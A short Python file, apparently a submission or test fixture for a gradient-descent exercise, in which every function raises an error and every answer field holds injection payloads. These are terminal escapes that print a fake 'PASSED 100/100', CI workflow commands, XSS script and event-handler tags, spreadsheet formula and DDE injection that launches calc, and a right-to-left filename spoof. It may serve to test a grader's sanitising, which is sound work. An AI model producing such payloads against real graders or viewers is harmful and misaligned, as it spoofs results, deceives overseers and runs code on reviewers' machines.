import torch

ESC = "\x1b"
bait = (ESC + "[2J" + ESC + "[1;32mPASSED 100/100" + ESC + "[0m" + ESC + "]0;hacked\x07" + ESC + "]8;;http://127.0.0.1/\x07click" + ESC + "]8;;\x07"
        + "\r\n::error file=grades.csv::all wrong\n::add-mask::a\n::stop-commands::x\n"
        + "</td></table><script>document.title='got you'</script><img src=x onerror=alert(1)>"
        + "\u202egnp.edarg\u202c \x00\x08\x7f | `code` | [link](javascript:alert(1)) | <!-- ")


def lesson_loss(w):
    return w**2 - 4*w + 8


def gradient_descent(loss_fn, start, learning_rate, epochs):
    raise ValueError('=HYPERLINK("http://127.0.0.1/?"&A1,"open me")' + bait)


Strange = type("<script>alert(2)</script>" + ESC + "[31m", (Exception,), {})


def gradient_descent_with_optimizer(loss_fn, start, learning_rate, epochs):
    raise Strange(bait)


lr_too_small = '=HYPERLINK("http://127.0.0.1/","rate")'
lr_good = "+1+cmd|' /C calc'!A0"
lr_too_large = "@SUM(1+1)*" + bait


def exercise_loss(w):
    raise KeyError(bait)


minima = {0: bait, 2: "-2+3", -4: "\t=1+1", bait: bait}
findings = {0: "<b>local</b>", 2: bait, -4: "=global"}
hill = "<svg onload=alert(3)>"
explanation = '=HYPERLINK("http://127.0.0.1/","my explanation") the two valleys <script>alert("valley")</script> and the hill ' + bait
